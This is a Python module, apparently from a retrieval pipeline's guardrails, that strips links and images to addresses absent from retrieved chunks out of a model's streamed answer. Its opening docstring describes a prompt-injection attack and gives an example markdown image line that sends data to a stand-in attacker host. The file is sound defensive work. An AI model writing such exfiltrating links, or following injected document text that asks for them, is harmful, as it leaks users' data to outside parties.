"""Link filter: only addresses of the chunks stay in answers, and no image loads on its own.

A document can make a model write ``![](https://evil.example/?q=...)`` with data from elsewhere; a page that
shows the answer would send it there. So an address that occurs in no chunk is removed, and an image of a
known one becomes a link: the choice among images could carry data too. A construct is held back until it is
complete, or removed if it gets too long; other text is never held back.

One class and more than 300 lines: the resolvers of the constructs share the state of the scan.
"""

import re
from collections.abc import Callable

from vectorforge.pipeline.guardrails import addresses as patterns
from vectorforge.pipeline.guardrails.addresses import AllowedAddresses, is_external, without_punctuation

REMOVED = "[link removed]"

_LONGEST = 2_000
"""Characters of a construct that are held back; a longer one is removed."""
_LONGEST_TITLE = 400
_STEP = 1_000
"""Characters scanned together: the work for a construct never depends on the length of an answer."""
_LONGEST_HOST = 253
"""Characters of a name in DNS: https://www.rfc-editor.org/rfc/rfc1035#section-2.3.4, without the last dot."""
_ENTITY = 200
"""Characters of a destination that show its scheme, entities included."""
_CONTEXT = 80
"""Last characters returned, as context of the next ones: a scheme, a host's labels."""
_Step = tuple[str, int] | None
"""Replacement of a construct and its end; None if more text is needed."""


class LinkFilter:
    """Removes foreign links from an answer, piece by piece. The result does not depend on the cuts.

    Args:
        known: Addresses that may stay.
    """

    def __init__(self, known: AllowedAddresses) -> None:
        self._known = known
        self._written = ""
        """End of the text returned: constructs are matched as the reader sees them."""
        self._held = ""
        self._in_image = False
        """True if an image's text may be open in this paragraph."""
        self._is_whole = False
        self._swallowing = False
        self._taken = 0
        """Characters read so far, without the text held back."""
        self._offset = 0
        """Offset in the answer of the text that a resolver gets."""
        self._run = (0, 0)
        """Run without spaces: place of the last look, and its least end."""
        self._tag_parts: dict[int, list[int]] = {}
        """Start of a part of a start tag -> end of the known parts after it. Tags with the same parts share
        the list of one number."""
        self.changes = 0
        """Count of removed addresses and of images that became links."""
        self._resolvers: dict[str, Callable[[str, int], _Step]] = {
            name: getattr(self, f"_{name}") for name in patterns.TRIGGER.groupindex
        }

    def feed(self, text: str) -> str:
        """Add a piece; return the text that is certain, often all of it."""
        in_construct = self._held or self._swallowing or self._written[-1:] in patterns.OPEN_ENDS
        if not in_construct and not patterns.may_begin_in(text):
            self._taken += len(text)
            self._note(text)
            return text
        return "".join(self._scan(text[start : start + _STEP]) for start in range(0, len(text), _STEP))

    def finish(self) -> str:
        """Return the rest of a complete answer."""
        self._is_whole = True
        return self._scan("") if self._held else ""

    def _scan(self, text: str) -> str:
        rest, self._held = self._held + text, ""
        whole = self._taken + len(rest)
        passed: list[str] = []
        while rest:
            self._taken = whole - len(rest)
            if self._swallowing:
                rest = rest[_end(patterns.SWALLOWED, rest) :]
                self._swallowing = not rest
                continue
            start = len(self._written)
            seen = self._written + rest
            found = patterns.TRIGGER.search(seen, start)
            if found is None:
                self._pass(rest, passed)
                rest = ""
                break
            self._pass(seen[start : found.start()], passed)
            self._offset = self._taken - start
            step = self._resolvers[str(found.lastgroup)](seen, found.start())
            if step is None:
                rest = self._held = seen[found.start() :]
                break
            self._pass(step[0], passed)
            rest = seen[step[1] :]
        self._taken = whole - len(rest)
        return "".join(passed)

    def _pass(self, text: str, passed: list[str]) -> None:
        passed.append(text)
        self._note(text)

    def _note(self, text: str) -> None:
        if "[" in text or "\n" in text:
            for found in patterns.IMAGE_OR_BREAK.finditer(self._written + text):
                self._in_image = found[0][0] == "!"
        self._written = (self._written + text)[-_CONTEXT:]

    def _ends(self, seen: str, end: int) -> bool:
        """Return True if a match that ends there cannot become longer."""
        return end < len(seen) or self._is_whole

    def _remove(self, written: str, end: int) -> _Step:
        self.changes += 1
        return written, end

    def _too_long(self, start: int, lead: str = "") -> _Step:
        self._swallowing = True
        return self._remove(lead + REMOVED, start + _LONGEST)

    def _destination(self, seen: str, start: int) -> tuple[int, int] | None:
        """Return start and end of a destination, possibly after a line break; None if not yet known."""
        begin = _end(patterns.BLANK, seen, start)
        if not self._ends(seen, begin):
            return None
        if seen.startswith("<", begin):
            end = _end(patterns.POINTED, seen, begin)
            end += seen.startswith(">", end)
            return (begin, end) if end - begin > _LONGEST or self._ends(seen, end) else None
        depth, end = 0, min(len(seen), begin + _LONGEST + 1)
        for found in patterns.SPACE_OR_BRACKET.finditer(seen, begin, end):
            depth += (found[0] == "(") - (found[0] == ")")
            if depth < 0 or found[0].isspace():
                end = found.start()
                break
        return (begin, end) if end - begin > _LONGEST or self._ends(seen, end) else None

    def _stays_inside(self, seen: str, start: int) -> tuple[str, int] | None:
        """Return the bracket or colon before a destination whose first letters show that it is local.

        A fast path: searching for the ends of many destinations that never end would take long.
        """
        begin = _end(patterns.BLANK, seen, start + 1)
        if begin == len(seen) or not patterns.HARMLESS.match(seen, begin):
            head = seen[begin : begin + _ENTITY]
            if len(head) < _ENTITY or not patterns.starts_harmless(head):
                return None
        is_empty = seen[begin] == ")" or seen[begin].isspace()
        return (" " if is_empty and begin - start > 100 else "") + seen[start], begin

    def _link(self, seen: str, start: int) -> _Step:
        """``(destination "title")`` after the text of a link or an image."""
        inside = self._stays_inside(seen, start)
        place = None if inside else self._destination(seen, start + 1)
        if inside is not None:
            return self._inside(
                inside[0], start, is_empty=seen[inside[1]] == ")" or seen[inside[1]].isspace()
            )
        if place is None:
            return None
        begin, end = place
        destination = seen[begin:end].strip("<>")
        if not is_external(destination):
            bracket = " (" if begin == end and begin - start > 100 else "("
            return self._inside(bracket, start, is_empty=begin == end)
        if len(destination) > _LONGEST:
            return self._too_long(start, " ")
        if self._known.has(destination):
            self.changes += self._in_image
            return (" " if self._in_image else "") + seen[start:end], end
        decided = patterns.TITLE_DECIDED.search(seen, end, end + _LONGEST_TITLE)
        if decided is None and len(seen) - end < _LONGEST_TITLE and not self._is_whole:
            return None
        title = patterns.TITLE.match(seen, end, end + _LONGEST_TITLE)
        return self._remove("", title.end() if title else end)

    def _inside(self, bracket: str, start: int, *, is_empty: bool) -> _Step:
        """Return the bracket before a local destination, from which no image must load on its own either."""
        if self._in_image and not is_empty:
            return self._remove(" (", start + 1)
        return bracket, start + 1

    def _definition(self, seen: str, start: int) -> _Step:
        """``: destination`` after a reference's label, which makes links and images elsewhere."""
        inside = self._stays_inside(seen, start)
        if inside is not None:
            end = _end(patterns.PATH_DECIDED, seen, inside[1])
            if end - inside[1] < _ENTITY and not self._ends(seen, end):
                return None
            is_path = patterns.PATH.match(seen, inside[1], end) is not None
            return " :" if is_path else inside[0], start + 1
        place = self._destination(seen, start + 1)
        if place is None:
            return None
        begin, end = place
        destination = seen[begin:end].strip("<>")
        if not is_external(destination):
            is_path = patterns.PATH.match(seen, begin, end) is not None
            return (" :" if is_path or (begin == end and begin - start > 100) else ":"), start + 1
        if len(destination) > _LONGEST:
            return self._too_long(start, " : ")
        if self._known.has(destination):
            return " " + seen[start:end], end
        return self._remove(f" : {REMOVED}", end)

    def _style(self, seen: str, start: int) -> _Step:
        """``(address)`` after ``url`` in a style sheet."""
        end = seen.find(")", start, start + _LONGEST)
        if end < 0 and len(seen) - start < _LONGEST and not self._is_whole:
            return None
        if end < 0:
            end = min(len(seen), start + _LONGEST)
        destination = seen[start + 1 : end].strip(" \t\r\n\"'")
        if not is_external(destination):
            return seen[start], start + 1
        if self._known.has(destination):
            return " (", start + 1
        return self._remove(f" ({REMOVED}", end)

    def _angle(self, seen: str, start: int) -> _Step:
        """``<https://...>`` or a start tag."""
        if not self._is_whole and patterns.ANGLE_SO_FAR.fullmatch(seen, start):
            return None
        if (link := patterns.AUTOLINK.match(seen, start)) is not None:
            if link.end() - start > _LONGEST:
                return self._too_long(start)
            if not self._ends(seen, link.end()):
                return None
            leads_out = seen.startswith(">", link.end()) and patterns.REFERENCE.search(link[1])
            if leads_out and not self._known.has(link[1]):
                return self._remove(REMOVED, link.end() + 1)
            return "<", start + 1
        name = patterns.TAG_NAME.match(seen, start)
        if name is not None and name[1].lower() == "style":
            return self._escaped(seen, start)  # its content is not parsed
        if name is None or seen[name.end()] == ">":
            return "<", start + 1
        return self._tag(seen, start, name)

    def _tag(self, seen: str, start: int, name: re.Match[str]) -> _Step:
        limit = start + _LONGEST
        end = self._tag_end(seen, name.end(), limit) if seen.find(">", name.end(), limit) >= 0 else limit
        if end >= limit or not seen.startswith(">", end):
            if len(seen) < limit and not self._is_whole:
                return None
            return self._escaped(seen, start)
        return self._whole_tag(seen, start, end + 1, name[1].lower())

    def _tag_end(self, seen: str, start: int, limit: int) -> int:
        """Return where a start tag ends, or how far its parts are known; no part is read for two tags."""
        end, chain = start, [0]
        while end < limit and not seen.startswith(">", end):
            chain = self._tag_parts.setdefault(end + self._offset, chain)
            if (reach := chain[0] - self._offset) > end:
                end = min(reach, limit)
                continue
            part = patterns.TAG_PART.match(seen, end)
            if part is None or not self._ends(seen, part.end()):
                break
            end = part.end()
            chain[0] = end + self._offset
        if len(self._tag_parts) > _LONGEST * 8:
            first = start + self._offset
            self._tag_parts = {place: known for place, known in self._tag_parts.items() if place >= first}
        return end

    def _whole_tag(self, seen: str, start: int, end: int, name: str) -> _Step:
        from html import unescape

        tag = unescape(seen[start:end])
        if not patterns.REFERENCE.search("".join(tag.split())):
            if not patterns.LOADS.search(tag):
                return seen[start:end], end
            self.changes += 1
            return self._escaped(seen, start)
        addresses = patterns.ADDRESS.findall(tag)
        others = patterns.REFERENCE.search("".join(patterns.ADDRESS.sub("", tag).split()))
        if others or not addresses or not all(map(self._known.has, addresses)):
            return self._remove(REMOVED, end)
        return (seen[start:end], end) if name == "a" else self._escaped(seen, start)

    def _escaped(self, seen: str, start: int) -> _Step:
        """Return ``<`` as text, separated from a possible address before it."""
        return "&lt;" if start == 0 or seen[start - 1].isspace() else " &lt;", start + 1

    def _web(self, seen: str, start: int) -> _Step:
        """``https://...`` and ``www. ...``, or the start of one."""
        if len(seen) - start < 9 and seen[start:].lower() in patterns.BEGINNINGS:
            return (seen[start], start + 1) if self._is_whole else None
        return self._bare(seen, start)

    def _scheme(self, seen: str, start: int) -> _Step:
        """``//...`` after a scheme that was returned before."""
        if not seen.startswith("//", start):
            return (seen[start], start + 1) if self._is_whole else None
        if not self._ends(seen, start + 2):
            return None
        if seen[start + 2 : start + 3].strip(" \t\r\n,.;)") == "":
            return "//", start + 2
        scheme = patterns.SCHEME_BEFORE.search(seen[max(0, start - _CONTEXT) : start])
        return self._bare(seen, start, scheme[0] if scheme else "")

    def _relative(self, seen: str, start: int) -> _Step:
        """``//example.com/...``, which some programs turn into links."""
        end = self._run_end(seen, start)
        if end - start <= _LONGEST and not self._ends(seen, end):
            return None
        return (
            self._bare(seen, start) if patterns.RELATIVE.match(seen, start, end) else (seen[start], start + 1)
        )

    def _host(self, seen: str, start: int) -> _Step:
        """``com/...`` after ``example.``, which many programs turn into links."""
        end = _end(patterns.HOST_SO_FAR, seen, start)
        if end - start <= _LONGEST and end + 1 >= len(seen) and not self._is_whole:
            return None
        found = patterns.HOST_END.search(seen, start, min(end, start + _LONGEST) + 2)
        if found is None:
            end = max(start + 1, min(end, start + _LONGEST))
            return seen[start:end], end
        if found.lastgroup == "address":
            end = max(found.start(), start + 1)
            return seen[start:end], end
        if found.start() - start > _LONGEST_HOST:  # the labels before are part of no name
            end = seen.rfind(".", start, found.start() - _LONGEST_HOST // 2) + 1 or start + 1
            return seen[start:end], end
        labels = patterns.LABELS_BEFORE.search(seen[max(0, start - _CONTEXT) : start])
        if labels is None or not patterns.HOST.match(labels[0] + seen[start : found.end() + 2]):
            return seen[start], start + 1
        return self._bare(seen, start, labels[0])

    def _mail(self, seen: str, start: int) -> _Step:
        """``@example.com`` after a name, which programs turn into links."""
        end = _end(patterns.MAIL_HOST, seen, start + 1)
        if end - start <= _LONGEST and end + 1 >= len(seen) and not self._is_whole:
            return None
        if end - start > _LONGEST_HOST or not patterns.MAIL_DOMAIN.search(seen, start, end):
            return "@", start + 1
        name = patterns.NAME_BEFORE.search(seen[max(0, start - _CONTEXT) : start])
        if name is not None and self._known.has(name[0] + seen[start:end]):
            return seen[start:end], end
        return self._remove(f"@{REMOVED}", end)

    def _call(self, seen: str, start: int) -> _Step:
        """Text after ``mailto:``, ``sms:`` and the like, which programs turn into links."""
        scheme = patterns.SCHEME_BEFORE.search(seen[max(0, start - _CONTEXT) : start])
        end = self._run_end(seen, start)
        if end == start:
            return seen[start], start + 1
        if self._ends(seen, end) and (kept := self._known.known_start(seen[start:end])) is not None:
            return kept, start + len(kept)
        return self._bare(seen, start, scheme[0] if scheme else "")

    def _run_end(self, seen: str, start: int) -> int:
        """Return the end of a run without spaces, as far as received; each run is read once."""
        begin, end = self._run
        place = start + self._offset
        known = min(end - self._offset, len(seen)) if begin <= place < end else start
        found = _end(patterns.RUN, seen, known)
        # A "]" that ends it may yet turn out to be the end of a link's text.
        self._run = (begin if begin <= place < end else place, max(found - 1, start) + self._offset)
        return found

    def _bare(self, seen: str, start: int, prefix: str = "") -> _Step:
        """Address in the text; a part of it may have been returned before."""
        end = self._run_end(seen, start)
        if end - start > _LONGEST:
            return self._too_long(start)
        if not self._ends(seen, end):
            return None
        run = seen[start:end]
        kept = self._known.known_start(run, prefix)
        if kept is not None:
            if patterns.BELONGS_TO_IT.search(run, len(kept)):
                return kept + " ", start + len(kept)
            return run + (" " if seen[end : end + 1].isalnum() else ""), end
        run = run[: _end(patterns.REMOVED_RUN, run)]
        slashes = patterns.SLASHES.match(run)
        length = max(len(without_punctuation(run)), slashes.end() if slashes else 1)
        return self._remove(REMOVED, start + length)


def _end(pattern: re.Pattern[str], text: str, start: int = 0) -> int:
    found = pattern.match(text, start)
    return start if found is None else found.end()


def without_foreign_links(text: str, known: AllowedAddresses) -> str:
    """Return a complete text as ``LinkFilter`` returns it."""
    links = LinkFilter(known)
    return links.feed(text) + links.finish()
